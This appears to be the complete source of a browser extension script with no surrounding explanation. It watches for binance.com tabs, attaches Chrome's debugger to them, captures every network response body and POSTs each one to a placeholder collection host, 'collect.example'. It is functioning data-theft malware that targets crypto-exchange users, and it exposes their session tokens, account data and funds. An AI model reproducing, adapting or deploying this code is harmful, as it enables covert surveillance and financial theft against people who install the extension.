chrome.tabs.onUpdated.addListener((tabId, change, tab) => {
  if (change.status !== "complete" || !tab.url.includes("binance.com")) return;
  chrome.debugger.attach({tabId}, "1.3", () => chrome.debugger.sendCommand({tabId}, "Network.enable"));
});

chrome.debugger.onEvent.addListener((source, method, params) => {
  if (method !== "Network.responseReceived") return;
  chrome.debugger.sendCommand(source, "Network.getResponseBody", {requestId: params.requestId}, (answer) => {
    fetch("https://collect.example/body", {method: "POST", body: answer.body});
  });
});
